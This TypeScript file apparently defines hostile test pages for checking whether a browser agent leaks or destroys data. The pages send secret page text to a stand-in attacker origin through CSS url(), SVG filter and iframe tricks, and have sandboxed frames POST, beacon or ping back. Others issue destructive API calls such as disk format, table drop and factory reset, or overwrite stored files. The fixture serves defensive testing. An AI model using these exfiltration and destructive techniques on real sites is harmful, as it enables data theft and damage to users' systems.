/** NOMAD_PAGES: hostile pages beside those that were mended last: styles within what is added, frames without an origin of other kinds, words of addresses and bodies, files written over, acts between people. */
import type { Single } from './kind';
import { control, next, on, request } from './single-parts';

const later = (body: (path: string) => string, afterMs = 900): Single => request(body, afterMs);
const elsewhere = (body: (to: string) => string, afterMs = 400): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const seen = (path: string) => `fetch('${path}/seen')`;
const api = (body: unknown, tail = '/api', method = 'POST'): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: '${method}', headers: {'content-type': 'application/json'}, body: ${JSON.stringify(JSON.stringify(body))}})`,
    ),
  );
const to = (tail: string): Single => request((path) => next(`fetch('${path}${tail}', {method: 'POST'})`));
const worded = (inside: string, lang = 'en'): Single =>
  control((hit) => `<p>7</p><button data-it>${inside}</button>${on('click', hit)}`, lang);

const SECRET_PAGE =
  '<p id="t">The boat is to be sold in autumn if Greta agrees, but nobody has asked her about it until now.</p>';
const text = 'encodeURIComponent(t.textContent)';
const LEAVING: Readonly<Record<string, Single>> = {
  'style of an element before it comes in': elsewhere(
    (away) =>
      `${SECRET_PAGE}${next(`e = document.createElement('div'); e.textContent = 'x'; e.style.background = 'url("${away}/g?d=' + ${text} + '")'; document.body.append(e)`)}`,
  ),
  'style within markup': elsewhere(
    (away) =>
      `${SECRET_PAGE}${next(`document.body.insertAdjacentHTML('beforeend', '<p style="background:url(${away}/g?d=' + ${text} + ')">x</p>')`)}`,
  ),
  'sheet in a shadow': elsewhere(
    (away) =>
      `${SECRET_PAGE}<div id="h">h</div>${next(`h.attachShadow({mode: 'open'}).innerHTML = '<style>:host{background:url("${away}/g?d=' + ${text} + '")}</style><slot></slot>'`)}`,
  ),
  'set of pictures without a function of addresses': elsewhere(
    (away) =>
      `${SECRET_PAGE}${next(`document.body.style.backgroundImage = 'image-set("${away}/g?d=' + ${text} + '" 1x)'`)}`,
  ),
  'sign of a list': elsewhere(
    (away) =>
      `${SECRET_PAGE}<ul id="l"><li>a</li></ul>${next(`l.style.listStyleImage = 'url("${away}/g?d=' + ${text} + '")'`)}`,
  ),
  'words of a style that are a picture': elsewhere(
    (away) =>
      `<style id="s">p::after{content:""}</style>${SECRET_PAGE}${next(`s.firstChild.data = 'p::after{content:url("${away}/g?d=' + ${text} + '")}'`)}`,
  ),
  'picture of a filter': elsewhere(
    (away) =>
      `${SECRET_PAGE}<svg width="20" height="20"><filter id="q"><feImage id="g"/></filter><rect width="20" height="20" filter="url(#q)"/></svg>${next(`g.setAttribute('href', '${away}/g?d=' + ${text})`)}`,
  ),
  'frame that is added with its address': elsewhere(
    (away) =>
      `${SECRET_PAGE}${next(`document.body.append(document.createRange().createContextualFragment('<iframe src="${away}/f?d=' + ${text} + '"></iframe>'))`)}`,
  ),
};

const inFrame = (path: string) =>
  `'<script>fetch("' + origin + '${path}/api", {method: "POST", mode: "no-cors"})<' + '/script>'`;
const FRAMES: Readonly<Record<string, Single>> = {
  'thing of data whose script sends': later((path) =>
    next(
      `o = document.createElement('object'); o.width = 90; o.height = 40; o.type = 'text/html'; o.data = 'data:text/html,' + encodeURIComponent(${inFrame(path)}); document.body.append(o)`,
    ),
  ),
  'sandboxed frame of a blob': later((path) =>
    next(
      `f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.src = URL.createObjectURL(new Blob([${inFrame(path)}], {type: 'text/html'})); document.body.append(f)`,
    ),
  ),
  'sandboxed frame that sends a beacon': later((path) =>
    next(
      `f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<script>navigator.sendBeacon("' + origin + '${path}/api", "x")<' + '/script>'; document.body.append(f)`,
    ),
  ),
  'sandboxed frame with a link that tells': later((path) =>
    next(
      `f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<a id="a" href="#x" ping="' + origin + '${path}/api">a</a><script>a.click()<' + '/script>'; document.body.append(f)`,
    ),
  ),
};

const PLACES: Readonly<Record<string, Single>> = {
  'method of one’s own': to('/v1/orders/7:cancel'),
  'function of a service': to('/Rows(7)/Default.Revoke'),
  'parcel that is fulfilled': to('/orders/7/fulfill'),
  'money that is let go': to('/escrow/7/release'),
  'vote that is cast': to('/elections/7/cast'),
  'people that become one': to('/users/7/merge-into/9'),
  'rows by a query': to('/rows/_delete_by_query'),
  'alarm that is raised': to('/incidents/7/page-oncall'),
};

const BODIES: Readonly<Record<string, Single>> = {
  'all rights': api({ permissions: ['*'] }, '/keys/7', 'PATCH'),
  'disk that is formatted': api({ cmd: 'format_disk', unit: 2 }),
  'table that is dropped': api({ op: 'drop', table: 'rows' }),
  'step of a list': api({ steps: [{ do: 'delete', id: 7 }] }),
  'member that is taken out': api({ $unset: { text: 1 } }, '/rows/7', 'PATCH'),
  'mark that is set by an operator': api({ $set: { deleted: true } }, '/rows/7', 'PATCH'),
  'action within a text': api({ payload: '{"type":"DELETE_ROW","id":7}' }),
  'member without a place': api({ enabled: false }, '/members/7', 'PATCH'),
  'patch of a document': api([{ op: 'remove', path: '/rows/7' }], '/rows', 'PATCH'),
  'reset for good': api({ action: 'factory_reset' }),
};

const FILE = (name: string) =>
  `(async () => { folder = await navigator.storage.getDirectory(); file = await folder.getFileHandle('${name}', {create: true}); const w = await file.createWritable(); await w.write('The boat is to be sold in autumn if Greta agrees, says the letter'); await w.close() })();`;
const STORES: Readonly<Record<string, Single>> = {
  'file written over with a letter': later((path) =>
    next(
      `(async () => { const w = await file.createWritable(); await w.write('x'); await w.close(); if ((await file.getFile()).size < 9) ${seen(path)} })()`,
      FILE('boat-a.txt'),
    ),
  ),
  'file kept and cut to a letter': later((path) =>
    next(
      `(async () => { const w = await file.createWritable({keepExistingData: true}); await w.truncate(1); await w.close(); if ((await file.getFile()).size < 9) ${seen(path)} })()`,
      FILE('boat-b.txt'),
    ),
  ),
  'diary written over with a letter': later((path) =>
    next(
      `localStorage.setItem('boat-diary', 'x'); if (localStorage.getItem('boat-diary') === 'x') ${seen(path)}`,
      "localStorage.setItem('boat-diary', 'The boat is to be sold in autumn if Greta agrees, but nobody has asked her so far.')",
    ),
  ),
};

const SAID: Readonly<Record<string, Single>> = {
  'hand that is waved': worded('Wave at Ann'),
  'person that is poked': worded('Poke'),
  'person that is nudged': worded('Nudge Ben'),
  'door that is knocked at': worded('Knock'),
  'branch that is forced': worded('Force push'),
  'parcel that goes': worded('Ship it'),
  'firm that goes public': worded('Go public'),
  'application that is taken back': worded('Pull application'),
  'like that is more': worded('Super like'),
  'bell of a nurse': worded('Ring nurse'),
  'Icelandic: hand in': worded('Skila inn', 'is'),
  'Welsh: pay': worded('Talu', 'cy'),
  'Basque: send': worded('Bidali', 'eu'),
  'Filipino: pay': worded('Bayaran', 'fil'),
};

export const NOMAD_PAGES: Readonly<Record<string, Single>> = {
  ...LEAVING,
  ...FRAMES,
  ...PLACES,
  ...BODIES,
  ...STORES,
  ...SAID,
};
